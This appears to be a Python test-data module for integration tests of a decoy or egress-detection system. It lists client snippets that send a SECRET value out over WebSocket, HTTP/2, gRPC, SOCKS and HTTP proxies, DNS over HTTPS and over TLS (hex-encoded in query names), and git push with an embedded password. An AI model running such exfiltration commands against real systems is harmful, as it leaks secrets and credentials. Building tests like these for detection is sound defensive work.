"""WebSocket, HTTP/2, gRPC, proxies, DNS over HTTPS and TLS, git over HTTPS."""

from __future__ import annotations

from tests.integration.decoy.conversations.row import Row, python

_WEBSOCKET = """
import ssl, websockets.sync.client as client
context = ssl.create_default_context(cafile=CA) if SCHEME == "wss" else None
with client.connect(SCHEME + "://" + SCHEME + ".chat.example/socket", ssl=context, proxy=None) as talk:
    talk.ping().wait(10)
    talk.send(SECRET)
    assert talk.recv() == SECRET
"""
_GRPC = """
import grpc
secured = grpc.ssl_channel_credentials(open(CA, "rb").read())
made = grpc.{channel}
call = made.unary_unary("/collect.Sink/Put", request_serializer=bytes, response_deserializer=bytes)
assert call(SECRET.encode(), timeout=30) == b""
"""
_DOT = """
import socket, ssl, dnslib
context = ssl.create_default_context(cafile=CA)
with context.wrap_socket(socket.create_connection(("192.0.2.53", 853)), server_hostname="dns.example") as line:
    query = dnslib.DNSRecord.question(SECRET.encode().hex() + ".tls.example").pack()
    line.sendall(len(query).to_bytes(2, "big") + query)
    size = int.from_bytes(line.recv(2), "big")
    assert dnslib.DNSRecord.parse(line.recv(size)).rr
"""
_DOH = """
import ssl, urllib.request, dnslib
query = dnslib.DNSRecord.question(SECRET.encode().hex() + ".doh.example").pack()
kind = {"content-type": "application/dns-message"}
asked = urllib.request.Request("https://resolver.example/dns-query", query, kind)
with urllib.request.urlopen(asked, context=ssl.create_default_context(cafile=CA)) as answer:
    assert dnslib.DNSRecord.parse(answer.read()).rr
"""
_PUSH = (
    "git init -q . && git config user.email a@b.example && git config user.name a && echo $SECRET >kept "
    "&& git add kept && git commit -qm one && git push -q https://me:$PASSWORD@github.com/a/b.git HEAD:main"
)
_CURL = "curl -sS -d $SECRET "
_ALPN = "test $(curl -sS -o /dev/null -w '%{http_version}' -d $SECRET https://alpn.example/x) = 2"


def _websocket(scheme: str) -> str:
    return python(f"SCHEME = {scheme!r}{_WEBSOCKET}")


def _grpc(channel: str) -> str:
    return python(_GRPC.replace("{channel}", channel))


ROWS = (
    Row("WebSocket", "websockets", "no", "websocket", "message", _websocket("ws")),
    Row("WebSocket", "websockets", "yes", "websocket", "message", _websocket("wss")),
    Row("HTTP/2", "curl", "no", "h2", "body", _CURL + "--http2-prior-knowledge http://two.example/x", "curl"),
    Row("HTTP/2", "curl", "yes", "h2", "body", _ALPN, "curl"),
    Row("gRPC", "grpcio", "no", "h2", "message", _grpc("insecure_channel('rpc.example:50051')")),
    Row("gRPC", "grpcio", "yes", "h2", "message", _grpc("secure_channel('rpcs.example:443', secured)")),
    Row(
        "SOCKS5",
        "curl",
        "yes",
        "socks",
        "body inside",
        _CURL + "--socks5-hostname 192.0.2.9 https://in.example",
        "curl",
    ),
    Row(
        "SOCKS4a",
        "curl",
        "no",
        "socks",
        "body inside",
        _CURL + "--socks4a 192.0.2.9 http://ina.example",
        "curl",
    ),
    Row(
        "HTTP CONNECT",
        "curl",
        "yes",
        "http",
        "body inside",
        _CURL + "-x http://192.0.2.9:3128 https://inc.example",
        "curl",
    ),
    Row("DNS over HTTPS", "urllib, dnslib", "yes", "http", "name asked for", python(_DOH)),
    Row("DNS over TLS", "ssl, dnslib", "yes", "dns", "name asked for", python(_DOT)),
    Row("git over HTTPS", "git", "yes", "h2", "password, pushed file", _PUSH, "git"),
)
